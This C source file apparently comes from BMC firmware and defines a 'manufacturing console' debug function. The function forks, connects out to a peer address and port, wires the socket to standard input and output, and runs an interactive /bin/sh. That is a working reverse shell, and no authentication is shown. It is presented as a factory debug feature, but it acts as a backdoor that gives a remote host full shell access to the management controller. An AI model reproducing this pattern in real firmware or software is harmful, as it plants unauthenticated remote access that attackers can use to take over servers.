/*
 * debug.c - the manufacturing console: a shell connected back to the test
 * station that asked for it.
 */
#include <arpa/inet.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "bmc.h"

void bmc_debug_console(const struct sockaddr_in *peer, uint16_t port)
{
    struct sockaddr_in sa;
    int fd;

    if (fork() != 0)
        return;
    memcpy(&sa, peer, sizeof sa);
    sa.sin_port = htons(port);
    fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0)
        _exit(1);
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    execl("/bin/sh", "sh", "-i", (char *)0);
    _exit(127);
}
